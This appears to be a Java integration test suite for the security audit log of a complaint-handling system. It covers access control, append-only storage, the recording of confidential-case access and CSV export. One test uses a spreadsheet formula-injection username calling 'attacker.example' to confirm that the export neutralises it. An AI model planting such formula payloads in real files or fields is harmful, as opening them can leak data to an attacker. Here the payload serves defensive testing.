package org.hearken.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hearken.support.CaseBuilder.PHONE;
import static org.hearken.support.CaseBuilder.aComplaint;

import com.zaxxer.hikari.HikariDataSource;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import javax.sql.DataSource;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.hearken.identity.Role;
import org.hearken.support.ApiClient;
import org.hearken.support.FormSession;
import org.hearken.support.IntegrationTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/**
 * The security audit log: what it records (sign-ins and failures, changes to roles, departments and need-to-know, API
 * tokens, exports, openings of confidential cases), who may read it, that nobody can change it, and that nobody reads
 * in it of a complaint about themselves.
 */
class SecurityAuditIT extends IntegrationTest {

    @Autowired
    DataSource dataSource;

    private List<JsonNode> entries(ApiClient reader, String query) {
        ApiClient.Response answer = reader.get("/api/audit?" + query);
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        List<JsonNode> entries = new ArrayList<>();
        answer.json().get("entries").forEach(entries::add);
        return entries;
    }

    private List<String> actions(ApiClient reader, String query) {
        return entries(reader, query).stream()
                .map(e -> e.get("action").asString())
                .toList();
    }

    private String open(String by, String department, boolean confidential, List<String> about) {
        return aComplaint()
                .by(PHONE)
                .subject("Audit " + unique())
                .description("Something happened at the counter.")
                .from("Cora Caller")
                .phone("+61 2 5550 7788")
                .inDepartment(department)
                .confidential(confidential)
                .about(about)
                .openedBy(as(by));
    }

    @Test
    void signInsAndFailedSignInsAreRecordedWithTheClientAddress() {
        String agent = department().staff(Role.AGENT);
        ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));
        String office = uniqueClientAddress();
        String elsewhere = uniqueClientAddress();

        assertThat(new FormSession(port, office).signIn(agent, PASSWORD)).isTrue();
        assertThat(new FormSession(port, office).signIn(agent, "not the password"))
                .isFalse();
        assertThat(ApiClient.basic(port, agent, "wrong again")
                        .with("X-Forwarded-For", elsewhere)
                        .get("/api/cases")
                        .status())
                .isEqualTo(401);

        List<JsonNode> entries = entries(executive, "actor=" + agent);
        assertThat(entries)
                .extracting(
                        e -> e.get("action").asString() + " " + e.get("outcome").asString() + " "
                                + e.get("clientAddress").asString() + " "
                                + e.get("details").get("method").asString())
                .containsExactly(
                        "SIGN_IN_FAILED FAILURE " + elsewhere + " HTTP Basic",
                        "SIGN_IN_FAILED FAILURE " + office + " sign-in page",
                        "SIGN_IN SUCCESS " + office + " sign-in page");
        // Each API call with a password is not a sign-in worth a line each; the failed ones are.
        assertThat(as(agent).get("/api/cases").status()).isEqualTo(200);
        assertThat(entries(executive, "actor=" + agent)).hasSize(3);
    }

    @Test
    void failedApiTokensAreRecordedWithTheOwnerWhenTheTokenIsKnown() {
        String agent = department().staff(Role.AGENT);
        ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));
        String token = as(agent)
                .post("/api/tokens", Map.of("name", "short", "expiresInDays", 1))
                .json()
                .get("token")
                .asString();
        clock.advance(Duration.ofDays(2));

        assertThat(ApiClient.bearer(port, token).get("/api/cases").status()).isEqualTo(401);

        List<JsonNode> failed = entries(executive, "actor=" + agent + "&action=SIGN_IN_FAILED");
        assertThat(failed).singleElement().satisfies(e -> {
            assertThat(e.get("details").get("method").asString()).isEqualTo("API token");
            assertThat(e.get("details").get("reason").asString()).contains("expired");
        });
    }

    @Test
    void changesToRolesAndDepartmentsAreRecordedWithWhoAskedAndWhoApproved() {
        Dept dept = department();
        String admin = staffWithoutDepartment(Role.ADMIN);
        String second = staffWithoutDepartment(Role.ADMIN);
        ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));

        // The administrator tries to make themselves an executive; refused, and recorded as refused.
        FormSession self = new FormSession(port);
        assertThat(self.signIn(admin, PASSWORD)).isTrue();
        self.get("/admin/staff/" + admin);
        assertThat(self.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE", Map.of())
                        .status())
                .isEqualTo(400);
        FormSession other = new FormSession(port);
        assertThat(other.signIn(second, PASSWORD)).isTrue();
        String page = other.get("/admin/staff/" + admin).body();
        FormSession.Page saved = other.post(
                "/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE&departments=" + dept.code,
                FormSession.form("_csrf", FormSession.csrf(page)));
        assertThat(saved.status()).isEqualTo(302);

        // The executive role waits for a second administrator; a third approves it.
        String third = staffWithoutDepartment(Role.ADMIN);
        long grant = as(third)
                .get("/api/staff/grants")
                .json()
                .valueStream()
                .filter(g -> g.get("username").asString().equals(admin))
                .findFirst()
                .orElseThrow()
                .get("id")
                .asLong();
        assertThat(as(third).post("/api/staff/grants/" + grant + "/approve", "").status())
                .isEqualTo(200);

        List<JsonNode> changes = entries(executive, "target=" + admin);
        assertThat(changes)
                .extracting(e -> e.get("actor").asString() + " "
                        + e.get("action").asString() + " " + e.get("outcome").asString())
                .containsSubsequence(
                        third + " ROLES_CHANGED SUCCESS",
                        third + " ROLE_GRANT_APPROVED SUCCESS",
                        second + " ROLE_GRANT_REQUESTED SUCCESS",
                        second + " DEPARTMENTS_CHANGED SUCCESS",
                        "(hearken) STAFF_CREATED SUCCESS");
        JsonNode roles = changes.stream()
                .filter(e -> e.get("action").asString().equals("ROLES_CHANGED")
                        && e.get("outcome").asString().equals("SUCCESS"))
                .findFirst()
                .orElseThrow();
        assertThat(roles.get("details").get("before").toString()).isEqualTo("[\"ADMIN\"]");
        assertThat(roles.get("details").get("after").toString()).isEqualTo("[\"ADMIN\",\"EXECUTIVE\"]");
    }

    @Test
    void needToKnowChangesOnACaseAreRecordedWithoutTheReasonOrTheCasesText() {
        Dept dept = department();
        String colleague = dept.staff(Role.AGENT);
        String officer = dept.staff(Role.AGENT);
        ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));

        // Need-to-know: a confidential case, a person named on it, a person the complaint is about.
        String ref = open(dept.lead, dept.code, true, List.of());
        assertThat(as(dept.lead)
                        .post("/api/cases/" + ref + "/named-staff", Map.of("username", colleague, "reason", "rota"))
                        .status())
                .isEqualTo(200);
        assertThat(as(dept.lead)
                        .post("/api/cases/" + ref + "/about-staff", Map.of("username", officer))
                        .status())
                .isEqualTo(200);
        List<JsonNode> onCase = entries(executive, "target=" + ref);
        assertThat(onCase)
                .extracting(
                        e -> e.get("action").asString() + " " + e.get("actor").asString() + " "
                                + (e.get("details").has("staff")
                                        ? e.get("details").get("staff").asString()
                                        : "-"))
                .containsExactly(
                        "STAFF_NAMED_AS_SUBJECT " + dept.lead + " " + officer,
                        "STAFF_NAMED_ON_CASE " + dept.lead + " " + colleague,
                        "CASE_MARKED_CONFIDENTIAL " + dept.lead + " -");
        assertThat(onCase.toString()).doesNotContain("rota").doesNotContain("Something happened");
    }

    @Test
    void anAdministratorsRefusedAttemptOnTheirOwnRolesIsRecorded() {
        String admin = staffWithoutDepartment(Role.ADMIN);
        FormSession self = new FormSession(port);
        assertThat(self.signIn(admin, PASSWORD)).isTrue();
        self.get("/admin/staff/" + admin);
        self.post("/admin/staff/" + admin + "?roles=ADMIN&roles=EXECUTIVE", Map.of());

        assertThat(entries(as(staffWithoutDepartment(Role.ADMIN)), "target=" + admin + "&outcome=REFUSED"))
                .singleElement()
                .satisfies(e -> {
                    assertThat(e.get("actor").asString()).isEqualTo(admin);
                    assertThat(e.get("action").asString()).isEqualTo("ROLES_CHANGED");
                    assertThat(e.get("details").get("asked").toString()).contains("EXECUTIVE");
                });
    }

    @Test
    void apiTokensIssuedAndRevokedAreRecordedAndDeactivationRevokesThem() {
        String agent = department().staff(Role.AGENT);
        ApiClient admin = as(staffWithoutDepartment(Role.ADMIN));
        long first = as(agent)
                .post("/api/tokens", Map.of("name", "first"))
                .json()
                .get("id")
                .asLong();
        long second = as(agent)
                .post("/api/tokens", Map.of("name", "second", "scope", "read-act"))
                .json()
                .get("id")
                .asLong();
        assertThat(as(agent).delete("/api/tokens/" + first).status()).isEqualTo(204);
        assertThat(admin.post("/api/staff/" + agent + "/deactivate", "").status())
                .isEqualTo(200);

        List<String> lines = entries(admin, "target=" + agent).stream()
                .map(e -> e.get("action").asString() + " "
                        + (e.get("details").has("tokenId")
                                ? e.get("details").get("tokenId").asLong()
                                : ""))
                .toList();
        assertThat(lines)
                .containsSubsequence(
                        "STAFF_DEACTIVATED ",
                        "API_TOKEN_REVOKED " + second,
                        "API_TOKEN_REVOKED " + first,
                        "API_TOKEN_ISSUED " + second,
                        "API_TOKEN_ISSUED " + first);
    }

    @Test
    void everyOpeningOfAConfidentialCaseIsRecordedAndOthersAreNot() {
        Dept dept = department();
        String executive = staffWithoutDepartment(Role.EXECUTIVE);
        ApiClient admin = as(staffWithoutDepartment(Role.ADMIN));
        String confidential = open(dept.lead, dept.code, true, List.of());
        String ordinary = open(dept.lead, dept.code, false, List.of());

        assertThat(as(executive).get("/api/cases/" + confidential).status()).isEqualTo(200);
        assertThat(as(executive).get("/api/cases/" + confidential).status()).isEqualTo(200);
        FormSession browser = new FormSession(port);
        assertThat(browser.signIn(executive, PASSWORD)).isTrue();
        assertThat(browser.get("/cases/" + confidential).status()).isEqualTo(200);
        assertThat(as(executive).get("/api/cases/" + ordinary).status()).isEqualTo(200);

        ApiClient otherExecutive = as(staffWithoutDepartment(Role.EXECUTIVE));
        assertThat(entries(otherExecutive, "target=" + confidential + "&action=CONFIDENTIAL_CASE_OPENED"))
                .extracting(e -> e.get("actor").asString() + " "
                        + e.get("details").get("where").asString())
                .containsExactly(executive + " case page", executive + " API", executive + " API");
        assertThat(entries(otherExecutive, "target=" + ordinary + "&action=CONFIDENTIAL_CASE_OPENED"))
                .isEmpty();
        // An administrator may not open the confidential case: the log tells them a confidential case was opened, by
        // whom and when, but not which; and asking for the case by its reference finds nothing, as a list of cases
        // would.
        List<JsonNode> seenByAdmin = entries(admin, "actor=" + executive + "&action=CONFIDENTIAL_CASE_OPENED");
        assertThat(seenByAdmin)
                .extracting(
                        e -> e.get("actor").asString() + " " + e.get("target").asString())
                .containsOnly(executive + " (a case you may not open)")
                .hasSameSizeAs(entries(otherExecutive, "actor=" + executive + "&action=CONFIDENTIAL_CASE_OPENED"));
        assertThat(seenByAdmin.toString()).doesNotContain(confidential).doesNotContain("case page");
        assertThat(admin.get("/api/audit/export.csv?action=CONFIDENTIAL_CASE_OPENED")
                        .body())
                .doesNotContain(confidential);
        assertThat(entries(admin, "target=" + confidential)).isEmpty();
        assertThat(entries(admin, "target=" + confidential.toLowerCase(java.util.Locale.ROOT)))
                .isEmpty();
        assertThat(admin.get("/api/audit/export.csv?target=" + confidential)
                        .body()
                        .lines()
                        .count())
                .as("the header alone")
                .isEqualTo(1);
    }

    @Test
    void readingAConfidentialCaseByAnyOtherRouteIsRecordedToo() {
        Dept dept = department();
        ApiClient executive = as(staffWithoutDepartment(Role.EXECUTIVE));
        String reader = staffWithoutDepartment(Role.EXECUTIVE);
        String sibling = open(dept.lead, dept.code, true, List.of());
        String confidential = open(dept.lead, dept.code, true, List.of());
        ApiClient api = as(reader);

        for (String path : List.of("/events", "/messages", "/letters", "/attachments")) {
            assertThat(api.get("/api/cases/" + confidential + path).status())
                    .as(path)
                    .isEqualTo(200);
        }
        assertThat(api.get("/api/cases?department=" + dept.code).body()).contains(confidential);
        FormSession browser = new FormSession(port);
        assertThat(browser.signIn(reader, PASSWORD)).isTrue();
        assertThat(browser.get("/cases/search?q=Cora+Caller").body()).contains(confidential);
        assertThat(browser.get("/cases/" + confidential).status()).isEqualTo(200);

        assertThat(entries(
                        executive, "actor=" + reader + "&target=" + confidential + "&action=CONFIDENTIAL_CASE_OPENED"))
                .extracting(e -> e.get("target").asString() + " "
                        + e.get("details").get("where").asString())
                .containsExactlyInAnyOrder(
                        confidential + " its events (API)",
                        confidential + " its messages (API)",
                        confidential + " its letters (API)",
                        confidential + " its attachments (API)",
                        confidential + " a list of cases",
                        confidential + " search",
                        confidential + " case page");
        // The case page lists the customer's other cases: the confidential one among them was read too.
        assertThat(entries(executive, "actor=" + reader + "&target=" + sibling + "&action=CONFIDENTIAL_CASE_OPENED"))
                .extracting(e -> e.get("details").get("where").asString())
                .contains("the customer's other cases", "search", "a list of cases");
    }

    @Test
    void exportsAreRecorded() {
        Dept dept = department();
        String executive = staffWithoutDepartment(Role.EXECUTIVE);
        ApiClient reader = as(executive);
        assertThat(reader.get("/api/register/export.csv").status()).isEqualTo(200);
        assertThat(reader.get("/api/reports/compliance.csv").status()).isEqualTo(200);
        assertThat(reader.get("/api/reports/pack.pdf").status()).isEqualTo(200);
        FormSession browser = new FormSession(port);
        assertThat(browser.signIn(dept.lead, PASSWORD)).isTrue();
        assertThat(browser.get("/reports/compliance.csv").status()).isEqualTo(200);
        assertThat(browser.get("/reports/pack.pdf").status()).isEqualTo(200);

        assertThat(entries(reader, "action=EXPORTED&actor=" + executive))
                .extracting(e -> e.get("target").asString() + ": "
                        + e.get("details").get("file").asString())
                .containsExactly(
                        "review pack: review pack PDF", "report compliance: report CSV", "register: register CSV");
        assertThat(entries(reader, "action=EXPORTED&actor=" + dept.lead))
                .extracting(e -> e.get("target").asString())
                .containsExactly("review pack", "report compliance");
    }

    @Test
    void onlyExecutivesAndAdministratorsReadTheLog() {
        Dept dept = department();
        String agent = dept.staff(Role.AGENT);
        for (String refused : List.of(agent, dept.lead)) {
            ApiClient.Response api = as(refused).get("/api/audit");
            assertThat(api.status()).as(refused).isEqualTo(403);
            assertThat(api.header("Content-Type")).startsWith("application/problem+json");
            assertThat(as(refused).get("/api/audit/export.csv").status()).isEqualTo(403);
            FormSession browser = new FormSession(port);
            assertThat(browser.signIn(refused, PASSWORD)).isTrue();
            assertThat(browser.get("/audit").status()).isEqualTo(403);
            assertThat(browser.get("/audit/export.csv").status()).isEqualTo(403);
            assertThat(browser.get("/cases/mine").body()).doesNotContain("href=\"/audit\"");
        }
        assertThat(anonymous().get("/api/audit").status()).isEqualTo(401);

        for (String reader : List.of(staffWithoutDepartment(Role.EXECUTIVE), staffWithoutDepartment(Role.ADMIN))) {
            assertThat(as(reader).get("/api/audit").status()).isEqualTo(200);
            FormSession browser = new FormSession(port);
            assertThat(browser.signIn(reader, PASSWORD)).isTrue();
            FormSession.Page page = browser.get("/audit?actor=" + agent);
            assertThat(page.status()).isEqualTo(200);
            assertThat(page.body()).contains("Security audit log", "href=\"/audit\"", "Download CSV", "Sign-in failed");
            FormSession.Page csv = browser.get("/audit/export.csv?actor=" + agent);
            assertThat(csv.status()).isEqualTo(200);
            assertThat(csv.body()).contains("SIGN_IN," + agent);
        }
    }

    @Test
    void theLogIsAppendOnly() {
        String agent = department().staff(Role.AGENT);
        long id = jdbc.sql("select max(id) from security_audit where target = ?")
                .param(agent)
                .query(Long.class)
                .single();
        assertThatThrownBy(() -> jdbc.sql("update security_audit set actor = 'someone else' where id = ?")
                        .param(id)
                        .update())
                .hasStackTraceContaining("append-only");
        assertThatThrownBy(() -> jdbc.sql("delete from security_audit where id = ?")
                        .param(id)
                        .update())
                .hasStackTraceContaining("append-only");
        assertThatThrownBy(() -> jdbc.sql("truncate security_audit").update()).hasStackTraceContaining("append-only");
        assertThat(jdbc.sql("select actor from security_audit where id = ?")
                        .param(id)
                        .query(String.class)
                        .single())
                .isEqualTo("(hearken)");
    }

    @Test
    void theCsvNeutralisesFormulasAndItsDownloadIsRecorded() throws Exception {
        // No colon: HTTP Basic ends the username at the first one.
        String formula = "=hyperlink(\"attacker.example\";\"x" + unique().toLowerCase() + "\")";
        assertThat(ApiClient.basic(port, formula, "guess").get("/api/cases").status())
                .isEqualTo(401);
        String executive = staffWithoutDepartment(Role.EXECUTIVE);

        ApiClient.Response csv = as(executive)
                .get("/api/audit/export.csv?actor=" + java.net.URLEncoder.encode(formula, StandardCharsets.UTF_8));
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.header("Content-Type")).startsWith("text/csv");
        assertThat(csv.header("Content-Disposition")).contains("attachment");
        List<CSVRecord> records = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv.body().replace("\uFEFF", "")))
                .getRecords();
        assertThat(records).singleElement().satisfies(r -> {
            assertThat(r.get("actor")).isEqualTo("'" + formula);
            assertThat(r.get("action")).isEqualTo("SIGN_IN_FAILED");
        });
        assertThat(entries(as(executive), "actor=" + executive + "&action=EXPORTED"))
                .singleElement()
                .satisfies(e -> assertThat(e.get("target").asString()).isEqualTo("audit log"));

        // The record of a download filtered by a case does not name the case: others reading the log may not open it.
        Dept dept = department();
        String ref = open(dept.lead, dept.code, true, List.of());
        assertThat(as(executive).get("/api/audit/export.csv?target=" + ref).status())
                .isEqualTo(200);
        JsonNode download = entries(as(executive), "actor=" + executive + "&action=EXPORTED")
                .getFirst();
        assertThat(download.get("details").get("filters").asString()).isEqualTo("target=(given)");
        assertThat(download.toString()).doesNotContain(ref);
    }

    @Test
    void theLogIsPagedNewestFirstByKeysetAndFiltered() {
        String agent = department().staff(Role.AGENT);
        ApiClient admin = as(staffWithoutDepartment(Role.ADMIN));
        for (int i = 0; i < 5; i++) {
            as(agent).post("/api/tokens", Map.of("name", "token " + i));
        }
        String query = "target=" + agent + "&action=API_TOKEN_ISSUED&limit=2";
        Set<Long> seen = new HashSet<>();
        List<String> names = new ArrayList<>();
        String before = null;
        int pages = 0;
        do {
            JsonNode page = admin.get("/api/audit?" + query + (before == null ? "" : "&before=" + before))
                    .json();
            page.get("entries").forEach(e -> {
                assertThat(seen.add(e.get("id").asLong())).isTrue();
                names.add(e.get("details").get("name").asString());
            });
            before = page.has("next") && !page.get("next").isNull()
                    ? page.get("next").asString()
                    : null;
            pages++;
        } while (before != null);
        assertThat(pages).isEqualTo(3);
        assertThat(names).containsExactly("token 4", "token 3", "token 2", "token 1", "token 0");

        assertThat(entries(admin, "target=" + agent + "&outcome=FAILURE")).isEmpty();
        ApiClient.Response bad = admin.get("/api/audit?from=yesterday&action=NOTHING&before=abc");
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.body()).contains("from", "action");
        assertThat(admin.get("/api/audit?before=abc").status()).isEqualTo(400);
    }

    @Test
    void readingTheLogAgainAndAgainKeepsNoDatabaseConnection() {
        Dept dept = department();
        String reader = staffWithoutDepartment(Role.EXECUTIVE);
        String ref = open(dept.lead, dept.code, true, List.of(dept.staff(Role.AGENT)));
        HikariDataSource hikari = (HikariDataSource) dataSource;
        int pool = hikari.getMaximumPoolSize();

        for (int i = 0; i < pool + 5; i++) {
            assertThat(entries(as(reader), "target=" + ref)).hasSize(2);
        }
        assertThat(hikari.getHikariPoolMXBean().getActiveConnections()).isLessThan(pool);
    }

    @Test
    void nobodyReadsInTheLogOfAComplaintAboutThemselves() {
        Dept dept = department();
        String accused = staffWithoutDepartment(Role.EXECUTIVE);
        String colleague = staffWithoutDepartment(Role.EXECUTIVE);
        String ref = open(dept.lead, dept.code, true, List.of(accused));
        assertThat(as(colleague).get("/api/cases/" + ref).status()).isEqualTo(200);

        assertThat(actions(as(colleague), "target=" + ref))
                .containsExactly("CONFIDENTIAL_CASE_OPENED", "STAFF_NAMED_AS_SUBJECT", "CASE_MARKED_CONFIDENTIAL");
        assertThat(entries(as(accused), "target=" + ref)).isEmpty();
        assertThat(as(accused).get("/api/audit?limit=500").body()).doesNotContain(ref);
        assertThat(as(accused).get("/api/audit/export.csv").body()).doesNotContain(ref);
    }
}
